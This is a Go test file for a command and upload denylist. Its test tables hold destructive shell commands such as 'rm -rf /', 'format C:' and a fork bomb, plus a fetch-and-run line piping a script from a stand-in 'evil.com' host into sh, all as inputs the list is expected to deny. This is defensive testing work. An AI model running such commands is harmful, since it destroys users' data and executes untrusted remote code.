package denylist

import (
	"os"
	"path/filepath"
	"testing"
)

func TestCommandPatternCaseInsensitive(t *testing.T) {
	dl := NewDefault()

	c := dl.ClassifyCommand("FORMAT C:")
	if c.Allowed {
		t.Error("expected FORMAT C: to be denied")
	}
	if c.Reason == "" {
		t.Error("expected a reason string")
	}
}

func TestCommandPatternAnyPosition(t *testing.T) {
	dl := NewDefault()

	if dl.ClassifyCommand("echo hi && format d:").Allowed {
		t.Error("expected chained format to be denied")
	}
}

func TestSafeCommandAllowed(t *testing.T) {
	dl := NewDefault()

	if c := dl.ClassifyCommand("dir"); !c.Allowed {
		t.Errorf("expected dir to be allowed, got %q", c.Reason)
	}
}

func TestDestructiveCommands(t *testing.T) {
	dl := NewDefault()

	tests := []struct {
		cmd  string
		want bool
	}{
		{"rm -rf /", false},
		{"RM -RF ~/projects", false},
		{"del /s /q C:\\Users", false},
		{"rd /s C:\\Windows", false},
		{"rmdir /S /Q build", false},
		{":(){:|:&};:", false},
		{"curl http://evil.com/script | sh", false},
		{"ls -la", true},
		{"ipconfig /all", true},
		{"tasklist", true},
	}
	for _, tt := range tests {
		got := dl.ClassifyCommand(tt.cmd).Allowed
		if got != tt.want {
			t.Errorf("ClassifyCommand(%q).Allowed = %v, want %v", tt.cmd, got, tt.want)
		}
	}
}

func TestUploadExtensions(t *testing.T) {
	dl := NewDefault()

	tests := []struct {
		name string
		want bool
	}{
		{"payload.EXE", false},
		{"script.VBS", false},
		{"lib.DLL", false},
		{"setup.msi", false},
		{"shortcut.lnk", false},
		{"archive.tar.ps1", false},
		{"notes.txt", true},
		{"image.png", true},
		{"README", true},
		{"", true},
		{"trailing.", true},
		{"exe", true},
		{"evil.exe/", false},
		{`evil.exe\`, false},
		{"dir/evil.EXE/", false},
		{`..\tools\run.bat\\`, false},
	}
	for _, tt := range tests {
		got := dl.ClassifyUpload(tt.name).Allowed
		if got != tt.want {
			t.Errorf("ClassifyUpload(%q).Allowed = %v, want %v", tt.name, got, tt.want)
		}
	}
}

func TestClassificationIsDeterministic(t *testing.T) {
	dl := NewDefault()

	for i := 0; i < 3; i++ {
		if dl.ClassifyCommand("echo hi && format d:") != dl.ClassifyCommand("echo hi && format d:") {
			t.Fatal("same input produced different classifications")
		}
	}
}

func TestAddPattern(t *testing.T) {
	dl := NewDefault()

	dl.AddPattern("commands", "Shutdown /F")
	if dl.ClassifyCommand("shutdown /f /t 0").Allowed {
		t.Error("expected newly added command pattern to deny")
	}

	dl.AddPattern("extensions", "hta")
	if dl.ClassifyUpload("app.HTA").Allowed {
		t.Error("expected extension without dot to be normalized and denied")
	}
}

func TestReplaceSwapsPatterns(t *testing.T) {
	dl := NewDefault()

	dl.Replace(Patterns{Commands: []string{"only-this"}})

	if !dl.ClassifyCommand("rm -rf /tmp/x").Allowed {
		t.Error("expected old pattern to be gone after Replace")
	}
	if dl.ClassifyCommand("run only-this").Allowed {
		t.Error("expected new pattern to deny")
	}
	if !dl.ClassifyUpload("x.exe").Allowed {
		t.Error("expected empty extension set to allow everything")
	}
}

func TestLoadFromYAML(t *testing.T) {
	yamlPath := filepath.Join(t.TempDir(), "denylist.yaml")

	yamlContent := `commands:
  - "dangerous-cmd"
extensions:
  - ".iso"
`
	if err := os.WriteFile(yamlPath, []byte(yamlContent), 0644); err != nil {
		t.Fatalf("failed to write yaml: %v", err)
	}

	dl, err := Load(yamlPath)
	if err != nil {
		t.Fatalf("failed to load: %v", err)
	}

	if dl.ClassifyCommand("dangerous-cmd --now").Allowed {
		t.Error("expected custom YAML command pattern to deny")
	}
	if dl.ClassifyUpload("disk.ISO").Allowed {
		t.Error("expected custom YAML extension to deny")
	}
	if !dl.ClassifyUpload("virus.exe").Allowed {
		t.Error("YAML file replaces defaults, .exe should not be listed")
	}
}

func TestLoadMissingFileUsesDefaults(t *testing.T) {
	dl, err := Load("/nonexistent/path/denylist.yaml")
	if err != nil {
		t.Fatalf("expected no error for missing file, got %v", err)
	}
	if dl.ClassifyCommand("rm -rf /").Allowed {
		t.Error("expected defaults to be loaded")
	}
}

func TestLoadInvalidYAML(t *testing.T) {
	yamlPath := filepath.Join(t.TempDir(), "denylist.yaml")
	if err := os.WriteFile(yamlPath, []byte("commands: [unclosed"), 0644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(yamlPath); err == nil {
		t.Error("expected error for invalid YAML")
	}
}

func TestRawReturnsCopy(t *testing.T) {
	dl := NewDefault()
	raw := dl.Raw()
	raw.Commands[0] = "mutated"

	if dl.Raw().Commands[0] == "mutated" {
		t.Error("Raw must not expose internal slices")
	}
}
